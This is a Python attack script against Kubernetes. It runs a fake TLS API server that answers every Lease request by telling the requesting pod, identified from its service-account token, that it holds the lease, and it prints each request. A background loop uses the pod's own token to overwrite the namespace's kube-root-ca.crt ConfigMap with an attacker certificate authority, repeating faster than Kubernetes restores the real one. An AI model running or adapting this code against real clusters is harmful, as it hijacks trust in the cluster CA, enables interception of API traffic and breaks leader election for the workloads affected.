"""An API server that says of each Lease that the pod that asks holds it, as its token names it, and prints each request.

Meanwhile it writes its own certificate authority into the namespace, more often than Kubernetes restores the real one.
"""
import base64
import datetime
import http.client
import http.server
import json
import pathlib
import ssl
import threading

FILES = pathlib.Path("/attack")
CREDENTIALS = pathlib.Path("/var/run/secrets/kubernetes.io/serviceaccount")


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def answer(self):
        print("asked:", self.command, self.path, flush=True)
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        _, _, _, _, _, namespace, _, name = self.path.split("?")[0].split("/")  # fails for a watch, which a client can do without
        claims = self.headers["Authorization"].split(".")[1]
        pod = json.loads(base64.urlsafe_b64decode(claims + "=="))["kubernetes.io"]["pod"]
        now = datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        body = json.dumps({
            "apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
            "metadata": {"namespace": namespace, "name": name, "resourceVersion": "1"},
            "spec": {"holderIdentity": pod["name"] + "_" + pod["uid"], "leaseTransitions": 9, "leaseDurationSeconds": 5, "renewTime": now},
        }).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_PUT = do_PATCH = answer


def write_authority():
    namespace = (CREDENTIALS / "namespace").read_text()
    headers = {
        "Authorization": "Bearer " + (CREDENTIALS / "token").read_text(),
        "Content-Type": "application/merge-patch+json",
    }
    patch = json.dumps({"data": {"ca.crt": (FILES / "tls.crt").read_text()}})
    api = http.client.HTTPSConnection((FILES / "address").read_text(), context=ssl._create_unverified_context())
    while True:
        api.request("PATCH", f"/api/v1/namespaces/{namespace}/configmaps/kube-root-ca.crt", patch, headers)
        response = api.getresponse()
        if response.status != 200:
            raise SystemExit(response.read())
        response.read()


threading.Thread(target=write_authority).start()
server = http.server.ThreadingHTTPServer(("", 6443), Handler)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(FILES / "tls.crt", FILES / "tls.key")
server.socket = context.wrap_socket(server.socket, server_side=True)
server.serve_forever()
